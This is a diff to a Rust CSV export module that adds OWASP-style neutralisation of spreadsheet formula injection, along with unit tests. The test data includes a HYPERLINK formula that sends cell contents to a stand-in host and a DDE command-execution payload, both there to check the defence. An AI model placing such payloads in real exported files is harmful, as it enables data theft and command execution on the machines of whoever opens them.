@@ -9,6 +9,13 @@
 //! and decimal mark of the site's language: `;` and `,` for `da`, `,` and
 //! `.` for `en`. Budgets are plain numbers in currency units, no thousands
 //! separator, so a spreadsheet can sum them. Quoting is the `csv` crate's.
+//!
+//! A spreadsheet runs a cell that starts like a formula, quoted or not
+//! (`=HYPERLINK(…)` sends other cells to a web address), and every text cell
+//! comes from the content, so each one is neutralised as OWASP advises for
+//! CSV injection: see [`neutralise`].
+
+use std::borrow::Cow;
 
 use crate::config::{Config, Language};
 use crate::model::{PageId, Publication};
@@ -37,6 +44,32 @@ fn dialect(language: Language) -> Dialect {
 /// Between the items of a list in one field (directions, owners).
 const LIST: &str = "; ";
 
+/// What starts a formula in a spreadsheet (OWASP, "CSV Injection"), with the
+/// full-width forms East Asian input methods type, which Excel reads alike.
+const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// Where a spreadsheet may split a text into cells: Excel at `;` in Danish
+/// and `,` in English, so opened with the other language's settings, a cell
+/// starts after either; import dialogs at a tab as well. Quoting does not
+/// help there, as the quote opens in another cell than the one it guards.
+const SEPARATORS: [char; 3] = [';', ',', '\t'];
+
+/// A cell of the file: text, which no spreadsheet may run, or an amount,
+/// written as the number it is so that a spreadsheet sums it.
+enum Cell {
+    Text(String),
+    Amount(String),
+}
+
+impl Cell {
+    fn written(&self) -> Cow<'_, str> {
+        match self {
+            Cell::Text(text) => neutralise(text),
+            Cell::Amount(number) => Cow::Borrowed(number),
+        }
+    }
+}
+
 /// The initiatives `order` of `publication` as CSV bytes, header first.
 pub(crate) fn initiatives(
     config: &Config,
@@ -44,6 +77,7 @@ pub(crate) fn initiatives(
     labels: &Labels,
     order: &[PageId],
 ) -> Vec<u8> {
+    use Cell::{Amount, Text};
     let language = config.language;
     let dialect = dialect(language);
     let mut out = BOM.to_vec();
@@ -51,6 +85,7 @@ pub(crate) fn initiatives(
         .delimiter(dialect.separator)
         .terminator(::csv::Terminator::CRLF)
         .from_writer(&mut out);
+    // Labels and the currency are the project's text too.
     let header = [
         labels["export_number"].clone(),
         labels["export_id"].clone(),
@@ -68,7 +103,7 @@ pub(crate) fn initiatives(
         labels["parent"].clone(),
         labels["export_page"].clone(),
     ];
-    writer.write_record(&header).expect("writing to memory cannot fail");
+    write_row(&mut writer, header.iter().map(|label| neutralise(label)));
     for &id in order {
         let page = &publication[id];
         let Some(i) = &page.initiative else { continue };
@@ -81,27 +116,38 @@ pub(crate) fn initiatives(
             .map(|h| format!("{} ({})", labels::join_names(&h.owners, language), h.from))
             .collect();
         let record = [
-            page.number.clone().unwrap_or_default(),
-            page.id.clone(),
-            page.title.clone(),
-            directions.join(LIST),
-            i.owners.join(LIST),
-            handovers.join(LIST),
-            when(i.start),
-            when(i.end),
-            when(i.deadline),
-            labels::status(i.status, language).to_owned(),
-            i.priority.map(|p| labels::priority(p, language)).unwrap_or_default().to_owned(),
-            i.budget.as_ref().map(|b| amount(b.cents, dialect.decimal)).unwrap_or_default(),
-            i.budget.as_ref().and_then(|b| b.note.clone()).unwrap_or_default(),
-            i.parent.as_ref().map(|p| publication[p.page].heading()).unwrap_or_default(),
-            page.url.clone(),
+            Text(page.number.clone().unwrap_or_default()),
+            Text(page.id.clone()),
+            Text(page.title.clone()),
+            Text(directions.join(LIST)),
+            Text(i.owners.join(LIST)),
+            Text(handovers.join(LIST)),
+            Text(when(i.start)),
+            Text(when(i.end)),
+            Text(when(i.deadline)),
+            Text(labels::status(i.status, language).to_owned()),
+            Text(i.priority.map(|p| labels::priority(p, language)).unwrap_or_default().to_owned()),
+            Amount(i.budget.as_ref().map(|b| amount(b.cents, dialect.decimal)).unwrap_or_default()),
+            Text(i.budget.as_ref().and_then(|b| b.note.clone()).unwrap_or_default()),
+            Text(i.parent.as_ref().map(|p| publication[p.page].heading()).unwrap_or_default()),
+            Text(page.url.clone()),
         ];
-        writer.write_record(&record).expect("writing to memory cannot fail");
+        write_row(&mut writer, record.iter().map(Cell::written));
     }
     writer.flush().expect("writing to memory cannot fail");
     drop(writer);
     out
+}
+
+/// One row, each cell as [`Cell::written`] or [`neutralise`] gave it.
+fn write_row<'a>(
+    writer: &mut ::csv::Writer<&mut Vec<u8>>,
+    cells: impl Iterator<Item = Cow<'a, str>>,
+) {
+    let cells: Vec<Cow<'_, str>> = cells.collect();
+    writer
+        .write_record(cells.iter().map(|cell| cell.as_bytes()))
+        .expect("writing to memory cannot fail");
 }
 
 /// Hundredths as a number a spreadsheet sums: whole units when there is no
@@ -110,14 +156,104 @@ fn amount(cents: i64, decimal: char) -> String {
     if cents % 100 == 0 { (cents / 100).to_string() } else { super::decimal(cents, decimal) }
 }
 
+/// `text` as a cell no spreadsheet runs, as OWASP advises for CSV
+/// injection. A signed number written as text (`-1`, `+2,5`) gets a leading
+/// space, so it still reads as the same number; wherever else a cell could
+/// start like a formula — at the start or after a separator, a formula
+/// character after any white space or quotes, or a tab or carriage return —
+/// an apostrophe goes first, which makes a spreadsheet read the cell as text.
+fn neutralise(text: &str) -> Cow<'_, str> {
+    if is_signed_number(text) {
+        return Cow::Owned(format!(" {text}"));
+    }
+    let starts: Vec<usize> = std::iter::once(0)
+        .chain(text.match_indices(SEPARATORS).map(|(at, separator)| at + separator.len()))
+        .filter(|&at| starts_formula(&text[at..]))
+        .collect();
+    if starts.is_empty() {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + starts.len());
+    let mut copied = 0;
+    for at in starts {
+        out.push_str(&text[copied..at]);
+        out.push('\'');
+        copied = at;
+    }
+    out.push_str(&text[copied..]);
+    Cow::Owned(out)
+}
+
+/// Whether a cell that begins with `rest` would be read as a formula.
+fn starts_formula(rest: &str) -> bool {
+    rest.starts_with(['\t', '\r'])
+        || rest.trim_start_matches(|c: char| c.is_whitespace() || c == '"').starts_with(FORMULA)
+}
+
+/// `-12`, `+3.5`, `-1,50`: a sign, digits, and perhaps a decimal mark and digits.
+fn is_signed_number(text: &str) -> bool {
+    let Some(digits) = text.strip_prefix(['-', '+']) else { return false };
+    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
+    [whole, fraction]
+        .iter()
+        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
+}
+
 #[cfg(test)]
 mod tests {
-    use super::amount;
+    use super::{Cell, amount, neutralise};
 
     #[test]
     fn amounts_use_the_languages_decimal_mark_only_when_needed() {
         assert_eq!(amount(3_400_000_000, ','), "34000000");
         assert_eq!(amount(123_450, ','), "1234,50");
         assert_eq!(amount(123_450, '.'), "1234.50");
+    }
+
+    #[test]
+    fn a_cell_that_starts_like_a_formula_starts_with_an_apostrophe() {
+        for (text, written) in [
+            ("=HYPERLINK(\"https://x.example/?\"&A1)", "'=HYPERLINK(\"https://x.example/?\"&A1)"),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("＝1+1", "'＝1+1"),
+            ("＋1", "'＋1"),
+            ("－1", "'－1"),
+            ("＠SUM(A1)", "'＠SUM(A1)"),
+            ("  =1+1", "'  =1+1"),
+            ("\"=1+1\"", "'\"=1+1\""),
+            ("-", "'-"),
+        ] {
+            assert_eq!(neutralise(text), written, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_formula_cannot_start_after_a_separator_of_either_language() {
+        assert_eq!(neutralise("SOC,=1+1"), "SOC,'=1+1");
+        assert_eq!(neutralise("SOC; @SUM(A1)"), "SOC;' @SUM(A1)");
+        assert_eq!(neutralise("=a;-b,+c"), "'=a;'-b,'+c");
+        assert_eq!(neutralise("SOC\t-A1"), "SOC\t'-A1");
+        assert_eq!(neutralise("\t=1"), "'\t'=1");
+        assert_eq!(neutralise("KL; Regioner, kommuner"), "KL; Regioner, kommuner");
+    }
+
+    #[test]
+    fn numbers_stay_numbers() {
+        for (text, written) in [("-1", " -1"), ("+2,5", " +2,5"), ("-1.10", " -1.10")] {
+            assert_eq!(neutralise(text), written, "a signed number as text: {text}");
+        }
+        for plain in ["1.10", "34000000", "2027-Q1", "Fælles SOC", "", "initiatives/soc.html"] {
+            assert_eq!(neutralise(plain), plain);
+        }
+        assert_eq!(
+            Cell::Amount("-1234,50".to_owned()).written(),
+            "-1234,50",
+            "amounts are never text"
+        );
+        assert_eq!(Cell::Text("-1234,50".to_owned()).written(), " -1234,50");
     }
 }
